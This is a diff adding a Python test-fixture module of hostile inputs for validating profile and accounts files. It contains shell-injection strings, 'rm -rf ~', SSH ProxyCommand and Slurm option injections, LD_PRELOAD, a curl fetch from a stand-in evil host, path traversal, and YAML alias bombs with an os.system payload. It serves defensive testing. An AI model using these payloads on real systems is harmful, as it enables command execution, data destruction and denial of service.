@@ -1,0 +1,103 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Hostile words for profiles and accounts files, in one list, and documents without bounds."""
+
+from __future__ import annotations
+
+OF_TEXT = (  # what a person would not see, or what would begin a line of its own
+    "\n",
+    "\ntouch {mark}\n",
+    "\r",
+    "\t",
+    "\0",
+    "\x07",
+    "\x1b]0;x\x07",
+    "\x1b]52;c;ZXZpbA==\x07\x1b[2J",
+    "\x7f",
+    "\x85",
+    "\x9b2J",
+    "\u00ad",
+    "\u115f",
+    "\u200b",
+    "\u200e",
+    "\u2028",
+    "\u202e",
+    "\u2060",
+    "\u2066",
+    "\u2800",
+    "\u3164",
+    "\ufeff",
+    "\uffa0",
+    "\U000e0041",
+)
+OF_SHELLS = (
+    "'; touch {mark}; '",
+    '"; touch {mark}; "',
+    "$(touch {mark})",
+    "`touch {mark}`",
+    "| touch {mark}",
+    "&& touch {mark}",
+    "> {mark}",
+    "rm -rf ~",
+    "quota;id",
+    "#",
+    "!",
+    "*",
+    "\\",
+    "%h%p%r",
+)
+OF_PROGRAMS = (  # words that something would start
+    "python3",
+    "touch {mark}",
+    "--gpus=1 touch {mark}",
+    "curl -o .bashrc evil.example.com",
+    "--wrap=id",
+    "--export=ALL,LD_PRELOAD=/tmp/x.so",
+    "--prolog=/tmp/x",
+    "--task-prolog=/tmp/x",
+    "--bcast=/tmp/x",
+    "--gpus 1 id",
+    "-G 1 id",
+    "-Gid id",
+    "evilquota -x /etc",
+    "ls",
+    "ssh",
+    "srun",
+    "-oProxyCommand=touch {mark}",
+    " -o ProxyCommand='touch {mark}'",
+    "x -F /etc/passwd",
+    "{{ lookup('pipe', 'touch {mark}') }}",
+)
+OF_PLACES = (
+    "/home/mallory/bin",
+    "~mallory",
+    "../../../etc",
+    "/..",
+    "~root",
+    "bin",
+    "lib64",
+    ".bashrc.d",
+    "R",
+    "miniconda3",
+    "gcc/../../../home/mallory/module",
+    "file:///etc/passwd",
+    "http://evil.example:8080/simple",
+    "http://[::1]/",
+    "https://a@b/",
+)
+OF_FORM = ("-", "--", "é", "{user}{project}{x}", "a b", "x" * 5000)
+WORDS = (*OF_TEXT, *OF_SHELLS, *OF_PROGRAMS, *OF_PLACES, *OF_FORM)
+
+BOMB = "a0: &b0 x\n" + "".join(f"a{n}: &b{n} [{', '.join([f'*b{n - 1}'] * 9)}]\n" for n in range(1, 12))
+DOCUMENTS = {
+    "aliases of aliases": BOMB,
+    "a value inside of itself": "a: &x [*x]\n",
+    "a mapping inside of itself": "a: &x {b: *x}\n",
+    "3000 levels": "a: " + "[" * 3000 + "]" * 3000 + "\n",
+    "3000 levels of lines": "a:\n  " + "- " * 3000 + "x\n",
+    "50000 lists that are left open": "accounts: " + "[" * 50_000,
+    "a number of 5000 digits": "a: " + "1" * 5000 + "\n",
+    "a hexadecimal number": "a: 0x" + "f" * 9000 + "\n",
+    "a day that is said to be one": "a: !!timestamp 2001-99-99\n",
+    "a number that is said to be one": "a: !!int x\n",
+    "a program": "a: !!python/object/apply:os.system [id]\n",
+}
